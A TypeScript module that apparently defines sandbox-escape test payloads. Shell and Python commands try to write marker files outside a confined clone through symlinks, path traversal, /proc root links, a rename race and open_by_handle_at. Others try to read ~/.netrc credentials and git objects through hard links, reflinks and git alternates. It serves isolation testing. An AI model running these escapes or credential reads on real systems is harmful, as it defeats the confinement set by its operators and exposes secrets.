import { type EscapeSite, family, markOf, marks, type Payload, reads } from './payload.ts';

const mark = (site: EscapeSite, id: string): string => markOf(site, id);

/** Links and exchanges that make a place in the clone a place outside. */
const LINK_WRITES = family('link', marks, [
  ['file', 'ln', (site, id) => `ln -sf ${mark(site, id)} l1 && echo ${id} > l1`],
  ['folder', 'ln', ({ outside }, id) => `ln -sfn ${outside} l2 && echo ${id} > l2/mark-${id}`],
  [
    'relative',
    'ln',
    ({ outside }, id) => `ln -sfn ../../../../../../..${outside} l3 && echo ${id} > l3/mark-${id}`,
  ],
  [
    'chain',
    'ln',
    ({ outside }, id) => `ln -sfn ${outside} l4a && ln -sfn l4a l4b && echo ${id} > l4b/mark-${id}`,
  ],
  [
    'proc-cwd',
    'sh',
    ({ outside }, id) =>
      `cd /proc/self/cwd && echo ${id} > ../../../../../../../..${outside}/mark-${id}`,
  ],
  ['proc-root', 'sh', (site, id) => `echo ${id} > /proc/self/root${mark(site, id)}`],
  ['proc-1-root', 'sh', (site, id) => `echo ${id} > /proc/1/root${mark(site, id)}`],
  [
    'proc-victim-root',
    'sh',
    (site, id) => `echo ${id} > /proc/${site.victim}/root${mark(site, id)}`,
  ],
  ['proc-victim-cwd', 'sh', ({ victim }, id) => `echo ${id} > /proc/${victim}/cwd/../mark-${id}`],
  [
    'dots',
    'sh',
    ({ outside }, id) => `echo ${id} > ../../../../../../../../..${outside}/mark-${id}`,
  ],
  ['beside', 'sh', (_, id) => `echo ${id} > ../outside/mark-${id}`],
  [
    'git-worktree',
    'git',
    (site, id) =>
      `git init -q lw && git -C lw -c user.name=x -c user.email=x@x commit -q --allow-empty -m x && git -C lw worktree add -q ${mark(site, id)}-tree && echo ${id} > ${mark(site, id)}-tree/f && cp ${mark(site, id)}-tree/f ${mark(site, id)}`,
  ],
  [
    'tar-absolute',
    'tar',
    (site, id) =>
      `echo ${id} > lta && tar cPf lta.tar --transform='s|lta|${mark(site, id)}|' lta && tar xPf lta.tar`,
  ],
  [
    'exchange',
    'python3',
    ({ outside }, id) => `python3 - <<'END'
import os, threading
os.makedirs('lx', exist_ok=True)
def swap():
    for _ in range(300):
        try:
            os.rename('lx', 'lx-real'); os.symlink('${outside}', 'lx'); os.remove('lx'); os.rename('lx-real', 'lx')
        except OSError: pass
def write():
    for _ in range(3000):
        try: open('lx/mark-${id}', 'w').write('${id}')
        except OSError: pass
one = threading.Thread(target=swap); one.start(); write(); one.join()
END`,
  ],
  [
    'old-handle',
    'python3',
    (_, id) => `python3 - <<'END'
import os
for fd in [None, *range(0, 64)]:
    try: os.write(os.open('../outside/mark-${id}', os.O_CREAT | os.O_WRONLY, dir_fd=fd), b'${id}')
    except OSError: pass
END`,
  ],
  [
    'handle',
    'python3',
    (site, id) => `python3 - <<'END'
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
fd = os.open('.', os.O_RDONLY)
handle = (ctypes.c_char * 136)(); ctypes.cast(handle, ctypes.POINTER(ctypes.c_uint))[0] = 128
mount = ctypes.c_int()
libc.name_to_handle_at(fd, b'.', handle, ctypes.byref(mount), 0)
libc.open_by_handle_at(fd, handle, os.O_RDONLY)
open('${mark(site, id)}', 'w').write('${id}')
END`,
  ],
]);

const LINK_READS = family('link', reads, [
  ['hard', 'ln', ({ home }) => `ln ${home}/.netrc lh && cat lh`],
  ['hard-follow', 'ln', ({ home }) => `ln -sf ${home}/.netrc ls1 && ln -L ls1 lh2 && cat lh2`],
  ['clone-link', 'cp', ({ home }) => `cp --reflink=auto ${home}/.netrc lr && cat lr`],
  [
    'git-alternates',
    'git',
    ({ checkout }) =>
      `git init -q la && echo ${checkout}/.git/objects > la/.git/objects/info/alternates && git -C la cat-file --batch-all-objects --batch`,
  ],
  [
    'git-clone',
    'git',
    ({ checkout }) => `git -c safe.directory='*' clone -q ${checkout} lc && cat lc/*`,
  ],
]);

/** Traversal, links, swaps. */
export const LINK_PAYLOADS: readonly Payload[] = [...LINK_WRITES, ...LINK_READS];
